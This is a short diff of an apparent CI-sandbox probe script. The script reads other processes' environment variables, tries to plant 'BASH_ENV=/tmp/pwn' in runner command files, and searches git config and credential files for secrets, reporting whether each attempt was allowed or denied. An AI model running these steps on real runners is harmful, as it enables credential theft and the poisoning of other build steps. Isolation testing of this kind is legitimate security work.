@@ -915,7 +915,7 @@ for f in /proc/[0-9]*/environ; do
 done
 echo "== environ-end readable=$r denied=$d"
 for f in {files}/output {files}/state {files}/env {files}/path {files}/summary; do
-  if echo 'BASH_ENV=/tmp/pwn' >> "$f" 2>/dev/null; then echo "== filecmd WROTE $f"; else echo "== filecmd DENIED-WRITE $f"; fi
+  if {{ echo 'BASH_ENV=/tmp/pwn' >> "$f"; }} 2>/dev/null; then echo "== filecmd WROTE $f"; else echo "== filecmd DENIED-WRITE $f"; fi
   if mv "$f" "$f.moved" 2>/dev/null; then echo "== filecmd MOVED $f"; else echo "== filecmd DENIED-MOVE $f"; fi
 done
 echo "== git-hits"; git -C {ws} config --show-origin --get-regexp 'extraheader|insteadof|credential' 2>&1; grep -rhi 'SECRET' {ws}/.git/config {ws}/.git/*.inc $HOME/.git-credentials $HOME/.gitconfig 2>/dev/null; echo "== git-hits-end"
